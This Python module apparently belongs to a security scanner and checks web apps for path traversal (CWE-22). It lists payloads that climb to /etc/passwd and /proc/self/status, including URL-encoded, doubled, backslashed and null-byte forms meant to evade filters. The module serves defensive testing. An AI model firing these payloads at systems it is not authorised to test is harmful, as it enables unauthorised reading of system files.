"""Path traversal and arbitrary file read (CWE-22): an input used as a file name reads a file outside the folder
the app means. The files read are ones every Unix app can read, each recognised by a shape the ordinary answer does
not have: the system's `/etc/passwd` (its `root:x:0:0:` line) and, where that file is missing or is not the usual
one (a minimal container or sandbox), the app process's own `/proc/self/status` (its `Uid:` line), which Linux
gives every process. Relative climbs, their encoded and filter-evading forms, and an absolute path are tried."""

from __future__ import annotations

import re

import msgspec

from services.analyzers.dynamic.attack_tool import PointCheck, Reach, first_hit
from services.analyzers.dynamic.attacker import Attacker, Sent
from services.analyzers.dynamic.attacks import Point
from services.analyzers.dynamic.expectations import Contains
from services.analyzers.dynamic.proof import make_proof
from shared.results.findings import Finding

CWE = "CWE-22"


class Target(msgspec.Struct, frozen=True):
    """A file the check reads: its path from the root, the shape that recognises it, and how the proof names it."""

    path: str
    shape: re.Pattern[str]
    named: str


TARGETS = (
    Target(
        "etc/passwd", re.compile(r"root:[^:\n]*:0:0:[^\n]*"), "the first line of the system's /etc/passwd"
    ),
    Target(
        "proc/self/status",
        re.compile(r"^Uid:\t\d+\t\d+\t\d+\t\d+$", re.MULTILINE),
        "the Uid line of /proc/self/status, the reading process's own status",
    ),
)
CLIMB = 8


def forms(path: str) -> list[str]:
    """The ways of asking for the file at `path` (from the root): the plain climb and the absolute path first,
    then encoded, doubled, backslashed and suffixed climbs that get past naive filters."""
    climb = "../" * CLIMB
    encoded = path.replace("/", "%2f")
    return [
        climb + path,
        "/" + path,
        "....//" * CLIMB + path,
        "..%2f" * CLIMB + encoded,
        "%2e%2e%2f" * CLIMB + encoded,
        "..\\" * CLIMB + path.replace("/", "\\"),
        "assay.txt/" + climb + path,
        climb + path + "%00.txt",
    ]


PAYLOADS = [payload for group in zip(*(forms(t.path) for t in TARGETS), strict=True) for payload in group]
PLAIN = len(TARGETS) * 2  # the plain climb and the absolute path of each file
FILE_NAMES = re.compile(
    r"file|path|name|doc|template|page|img|image|attach|download|report|log|dir|folder|src|load|read|view|include",
    re.IGNORECASE,
)


def file_read(sent: Sent) -> str | None:
    """The text that shows one of the target files was read, if the answer holds it."""
    for target in TARGETS:
        found = target.shape.search(sent.text)
        if found:
            return found.group(0)
    return None


def target_of(evidence: str) -> Target:
    """The target file whose shape `evidence` has."""
    return next(t for t in TARGETS if t.shape.search(evidence))


WHY = "the answer holds {}, which the app reads when the input climbs out of its folder: any file the app can read can be read this way"


class PathTraversal(PointCheck):
    name = "path-traversal"
    cwe = CWE

    async def probe(
        self, attacker: Attacker, reached: Reach, point: Point, *, in_path: bool = False
    ) -> Finding | None:
        # file-like names and path parameters (sent encoded: `%2F`) get every form; other inputs the plain climb
        # and the absolute path
        every = FILE_NAMES.search(point.field.name) or point.field.location == "path"
        hit = await first_hit(attacker, reached, point, PAYLOADS if every else PAYLOADS[:PLAIN], file_read)
        if hit is None:
            return None
        target = target_of(hit.evidence)
        return self.point_finding(
            reached,
            point,
            rule_id="path-traversal",
            severity="critical",
            message=f"Arbitrary file read through the {point.label}: {hit.payload!r} returns /{target.path}",
            proof=make_proof([reached.baseline, hit.sent], hit.evidence, WHY.format(target.named)),
            expectation=Contains(exchange=1, text=hit.evidence, control=0),
            payload=hit.payload,
        )
